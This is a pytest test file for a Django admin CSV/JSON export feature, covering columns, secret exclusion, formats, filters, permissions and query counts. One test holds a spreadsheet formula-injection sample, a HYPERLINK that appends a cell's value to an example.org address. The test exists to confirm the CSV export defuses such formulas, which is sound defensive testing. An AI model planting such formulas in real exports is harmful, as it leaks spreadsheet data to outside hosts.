import csv
import json
import re
from io import StringIO
from typing import Any

import pytest
from django.contrib import admin
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils.http import urlencode

from accounts.models import GitHubRepository
from backlog.choices import ItemStatus
from backlog.models import BacklogItem, FilteredItem
from tests.admin_pages import (
    ADMINISTRATORS_ONLY,
    PROVIDER_SECRET,
    REGISTERED,
    ROW_MAKERS,
    administrator,
    changelist_of,
    signed_in,
)
from tests.factories import (
    make_api_key,
    make_curator,
    make_filtered_item,
    make_item,
    make_repository,
    make_user,
    make_viewer,
)

pytestmark = pytest.mark.django_db
every_table = pytest.mark.parametrize("model", REGISTERED, ids=lambda model: model.__name__)
both_formats = pytest.mark.parametrize("form", ["csv", "json"])


def export(model, form: str, client: Client | None = None, **filters: Any) -> Any:
    """Ask for a list as a file."""
    client = client or signed_in(administrator())
    return client.get(f"{changelist_of(model)}export.{form}", filters)


def text_of(response) -> str:
    return b"".join(response.streaming_content).decode()


def objects(model, **filters: Any) -> list[dict[str, Any]]:
    result: list[dict[str, Any]] = json.loads(text_of(export(model, "json", **filters)))
    return result


def lines(model, **filters: Any) -> list[list[str]]:
    return [*csv.reader(StringIO(text_of(export(model, "csv", **filters)), newline=""))]


def cells(model, **filters: Any) -> list[dict[str, str]]:
    names, *rows = lines(model, **filters)
    return [dict(zip(names, row, strict=True)) for row in rows]


@every_table
def test_every_column_is_exported_but_secrets(model):
    row = ROW_MAKERS[model]()
    columns = {field.column for field in model._meta.concrete_fields}
    key = model._meta.pk.column

    exported = next(values for values in objects(model) if values[key] == str(row.pk))

    assert columns - exported.keys() == columns & {"password", "key_hash", "api_key"}


@every_table
def test_both_formats_have_the_same_columns_in_the_same_order(model):
    ROW_MAKERS[model]()

    assert lines(model)[0] == [*objects(model)[0]]


def test_items_are_exported_with_the_names_of_what_they_belong_to():
    repository = make_repository(github_full_name="acme/shop")
    item = make_item(repository=repository)

    (exported,) = objects(BacklogItem)

    assert exported == {
        "id": str(item.pk),
        "created_at": item.created_at.isoformat(),
        "updated_at": item.updated_at.isoformat(),
        "user_id": str(item.user_id),
        "user": repository.user.github_username,
        "repository_id": str(repository.pk),
        "repository": "acme/shop",
        "analysis_run_id": None,
        "title": item.title,
        "problem": "The file stays open after an error.",
        "solution": "Open it in a with statement.",
        "area": "backend",
        "type": "backend",
        "complexity": 2,
        "impact_score": 6,
        "effort_score": 3,
        "priority_score": 9,
        "benefits": [],
        "status": "new",
        "branch_name": None,
        "pr_url": None,
        "prd_content": None,
        "prd_generated_at": None,
    }


def test_csv_has_empty_cells_for_nothing_and_json_for_lists():
    benefits = [{"category": "operations", "title": "Größer"}]
    item = make_item(benefits=benefits, user=None)

    (exported,) = cells(BacklogItem)

    assert json.loads(exported["benefits"]) == benefits
    assert "Größer" in exported["benefits"]
    assert {exported[name] for name in ("user_id", "user", "branch_name")} == {""}
    assert exported["created_at"] == item.created_at.isoformat()


def test_truth_values_are_the_same_words_in_both_formats():
    make_repository(github_private=True)

    assert objects(GitHubRepository)[0]["github_private"] is True
    assert cells(GitHubRepository)[0]["github_private"] == "true"


def test_decimals_are_numbers():
    make_filtered_item(filter_confidence="0.85")

    assert objects(FilteredItem)[0]["filter_confidence"] == 0.85
    assert cells(FilteredItem)[0]["filter_confidence"] == "0.85"


def test_negative_numbers_stay_numbers():
    make_item(impact_score=1, effort_score=9)

    assert objects(BacklogItem)[0]["priority_score"] == -7
    assert cells(BacklogItem)[0]["priority_score"] == "-7"


def test_formulas_are_made_harmless_in_csv_and_left_alone_in_json():
    formula = '=HYPERLINK("https://example.org/?"&A1, "open")'
    make_item(title=formula)

    assert cells(BacklogItem)[0]["title"] == f"'{formula}"
    assert objects(BacklogItem)[0]["title"] == formula


def test_formulas_in_the_names_of_related_rows_are_made_harmless():
    user = make_user(github_username="@evil")
    make_item(repository=make_repository(user=user))

    assert cells(BacklogItem)[0]["user"] == "'@evil"


@both_formats
def test_keys_are_in_no_export(form):
    _, key = make_api_key()
    provider_key = next(model for model in REGISTERED if model.__name__ == "AIProviderKey")
    row = ROW_MAKERS[provider_key]()

    exports = [text_of(export(model, form)) for model in ADMINISTRATORS_ONLY]

    assert not [
        text
        for text in exports
        for secret in (key, PROVIDER_SECRET, row.encrypted_api_key, "key_hash", "password")
        if secret in text
    ]


def test_the_lists_filter_search_and_order_hold():
    make_item(title="Close the window", status=ItemStatus.REJECTED)
    make_item(title="Open the door")
    make_item(title="Close the gate", impact_score=9)
    make_item(title="Close the door", impact_score=3)
    columns = ["action_checkbox", *admin.site.get_model_admin(BacklogItem).list_display]

    found = objects(
        BacklogItem, status__exact="new", q="close", o=str(columns.index("impact_score"))
    )

    assert [item["title"] for item in found] == ["Close the door", "Close the gate"]


def test_all_pages_are_exported_whichever_is_shown():
    for _ in range(31):
        make_item()

    assert len(objects(BacklogItem, p=2)) == 31


@both_formats
def test_a_wrong_filter_leads_to_the_list_that_says_so(form):
    client = signed_in(make_curator())

    answer = client.get(f"{changelist_of(BacklogItem)}export.{form}", {"no_column": "1"})
    shown = client.get(changelist_of(BacklogItem), {"no_column": "1"})

    assert (answer.status_code, answer.headers["Location"]) == (302, "./?e=1")
    assert shown.status_code == 302


def test_an_empty_list_is_an_empty_file():
    assert text_of(export(BacklogItem, "json")) == "[]\n"
    assert len(lines(BacklogItem)) == 1


@pytest.mark.parametrize(
    ("form", "content_type"),
    [("csv", "text/csv; charset=utf-8"), ("json", "application/json; charset=utf-8")],
)
def test_the_answer_is_a_file_with_a_telling_name(form, content_type):
    answer = export(FilteredItem, form)

    assert answer.headers["Content-Type"] == content_type
    name = rf'attachment; filename="mason-filtered-items-\d{{4}}-\d\d-\d\d\.{form}"'
    assert re.fullmatch(name, answer.headers["Content-Disposition"])
    assert "no-store" in answer.headers["Cache-Control"]


@both_formats
@every_table
def test_who_may_not_see_the_list_may_not_export_it(model, form):
    expected = 403 if model in ADMINISTRATORS_ONLY else 200

    assert export(model, form, signed_in(make_viewer())).status_code == expected


@both_formats
def test_anonymous_visitors_are_sent_to_the_login(form):
    address = f"{changelist_of(BacklogItem)}export.{form}"

    assert Client().get(address).headers["Location"] == f"/admin/login/?next={address}"


@both_formats
def test_an_export_is_only_read(form):
    address = f"{changelist_of(BacklogItem)}export.{form}"

    assert signed_in(administrator()).post(address).status_code == 405


@both_formats
def test_rows_take_one_query_however_many_there_are(form):
    client = signed_in(administrator())
    for _ in range(30):
        make_item()

    with CaptureQueriesContext(connection) as queries:
        text_of(export(BacklogItem, form, client))

    table = f'FROM "{BacklogItem._meta.db_table}"'
    assert len([query for query in queries.captured_queries if table in query["sql"]]) == 1


@every_table
def test_every_list_links_to_its_exports_with_its_query_string(model):
    ROW_MAKERS[model]()
    client = signed_in(administrator())
    query = urlencode({"o": "1", "q": "a"})

    page = client.get(f"{changelist_of(model)}?{query}")

    for form in ("csv", "json"):
        assert f'href="export.{form}?o=1&amp;q=a"' in page.text
